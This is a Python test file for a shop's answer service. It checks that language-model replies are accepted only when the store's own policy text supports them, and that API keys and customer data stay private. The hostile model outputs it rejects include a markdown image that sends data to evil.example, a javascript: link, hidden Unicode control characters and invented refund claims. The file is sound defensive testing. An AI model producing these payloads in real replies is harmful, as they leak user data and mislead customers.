"""A language model is never trusted: what it says is given only where the sources cover it."""

import json
import logging
from collections.abc import Iterator

import pytest
from tests.answers.conftest import CUSTOMERS, HOSTILE, marks
from tests.answers.endpoint import Endpoint, completion, endpoint

from dongcha.answers.answering import Answer, Desk, answer
from dongcha.answers.asker import Asker
from dongcha.answers.grounding import ungrounded
from dongcha.assemble import Shop
from dongcha.settings import AnswersSection

QUESTION = "Can I return opened food?"
GOOD = "Opened food and skin care can only be returned if faulty."
KEY = "sk-very-secret"


@pytest.fixture(scope="module")
def served() -> Iterator[tuple[str, type[Endpoint]]]:
    with endpoint() as both:
        yield both


def ask(
    shop: Shop, served: tuple[str, type[Endpoint]], says: object, question: str = QUESTION, **more: object
) -> Answer:
    url, kind = served
    kind.says = says
    settings = AnswersSection(base_url=url, model="m", key_variable="A_KEY", timeout_seconds=0.5)
    desk = shop.answering_desk(shop.as_of())
    return answer(Desk(desk.facts, desk.index, settings, desk.feel), question, Asker.anybody(), **more)


def test_words_that_the_source_covers_are_given(shop: Shop, served: tuple[str, type[Endpoint]]) -> None:
    found = ask(shop, served, GOOD)
    assert (found.by, found.text) == ("model", GOOD)
    assert found.sources[0].title == "Returns"


HOSTILE_WORDS = [
    "Yes, you can return opened food.",
    "Opened food and skin care can be returned.",
    "Opened food and skin care can only be returned if faulty within 45 days.",
    "Opened food can only be returned if faulty. See https://evil.example/?q=ord-700111",
    "![x](https://evil.example/a.png?d=secret) Opened food and skin care can only be returned if faulty.",
    "[Opened food](javascript:alert(1)) and skin care can only be returned if faulty.",
    "<b>Opened food</b> and skin care can only be returned if faulty.",
    "Opened food and skin care can only be returned if faulty.\u200b\u202e",
    "Opened food and skin care can only be returned if faulty.\U000e0041\U000e0042",
    "Zebulon Quillfire may return opened food if faulty.",
    "Your refund of 500 pounds is approved.",
    "You may return anything unused within thirty-five days of delivery.",
    "拆封的食品都可以退。",
    "Print the label and write to evil@shop.example.",
    GOOD * 40,
    "\x1b[31mOpened food and skin care can only be returned if faulty.",
]


@pytest.mark.parametrize("words", HOSTILE_WORDS)
def test_inventions_are_refused_and_the_source_is_quoted(
    shop: Shop, served: tuple[str, type[Endpoint]], words: str
) -> None:
    found = ask(shop, served, words)
    assert found.by == "extract"
    assert GOOD in found.text
    assert found.notes


BAD_SERVERS = [
    ("status", 500),
    ("status", 401),
    ("status", 429),
    ("raw", b"not json"),
    ("raw", b'{"choices": []}'),
    ("raw", b"[" * 5_000),
    ("raw", b'{"choices": [{"message": {"content": {"a": 1}}}]}'),
    ("raw", completion("  ")),
    ("redirect", "http://127.0.0.1:9/v1/chat/completions"),
    "hangs",
    "drips",
    "floods",
]


@pytest.mark.parametrize("says", BAD_SERVERS, ids=str)
def test_a_server_that_fails_or_is_late_is_done_without(
    shop: Shop, served: tuple[str, type[Endpoint]], says: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("A_KEY", KEY)
    found = ask(shop, served, says)
    assert found.by == "extract"
    assert GOOD in found.text
    assert found.notes
    assert KEY not in json.dumps(found.to_dict())


def test_the_key_goes_to_the_endpoint_and_nowhere_else(
    shop: Shop, served: tuple[str, type[Endpoint]], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("A_KEY", KEY)
    with caplog.at_level(logging.DEBUG):
        ask(shop, served, GOOD)
        ask(shop, served, ("status", 401))
    assert served[1].keys[-1] == f"Bearer {KEY}"
    assert KEY not in caplog.text


def test_what_is_sent_is_fenced_and_holds_nothing_of_anybody(shop: Shop, served: tuple[str, type[Endpoint]]) -> None:
    served[1].asked.clear()
    for question in (QUESTION, "How does a gift card come?", *HOSTILE):
        ask(shop, served, GOOD, question)
    assert served[1].asked
    for sent in served[1].asked:
        system, user = (message["content"] for message in sent["messages"])
        fence = user.split("[", 1)[1].split(" ", 1)[0]
        assert fence in system
        body, question = user.split(f"[{fence} question]\n")
        assert body.count(f"[{fence} ") == body.count(f"[/{fence} ")
        assert fence not in question.removesuffix(f"\n[/{fence} question]")
        assert not {mark for who in CUSTOMERS for mark in marks(who) if mark in user.lower()}


def test_nothing_is_asked_where_nothing_is_known(shop: Shop, served: tuple[str, type[Endpoint]]) -> None:
    served[1].asked.clear()
    found = ask(shop, served, "The capital is Canberra.", "What is the capital of Australia?")
    assert (found.known, found.by) == (False, "nobody")
    assert served[1].asked == []


PASSAGE = (
    "Standard delivery takes 2 to 3 working days and costs £3.95; it is free from £40. Next-day delivery costs £6.95."
)


@pytest.mark.parametrize(
    ("words", "covered"),
    [
        ("Standard delivery costs £3.95; it is free from £40.", True),
        ("Next-day delivery costs £6.95.", True),
        ("Next-day delivery is free from £40.", False),
        ("Next-day delivery costs £3.95.", False),
        ("Next-day delivery does not cost £6.95.", False),
        ("Delivery takes two days.", False),
        ("", False),
    ],
)
def test_a_sentence_must_stand_in_one_sentence_of_the_source(words: str, covered: bool) -> None:
    assert (ungrounded(words, [PASSAGE]) == "") is covered


@pytest.mark.parametrize(
    ("words", "covered"),
    [
        ("收到退货后 3 个工作日内原路退款。", True),
        ("收到退货后 5 个工作日内原路退款。", False),
        ("收到退货后三个工作日内原路退款。", False),
        ("收到退货后不退款。", False),
        ("整单退货时退还运费。", True),
        ("退货时都退还运费。", False),
    ],
)
def test_chinese_is_held_to_the_same(words: str, covered: bool) -> None:
    assert (ungrounded(words, ["收到退货后 3 个工作日内原路退款。整单退货时退还运费。"]) == "") is covered
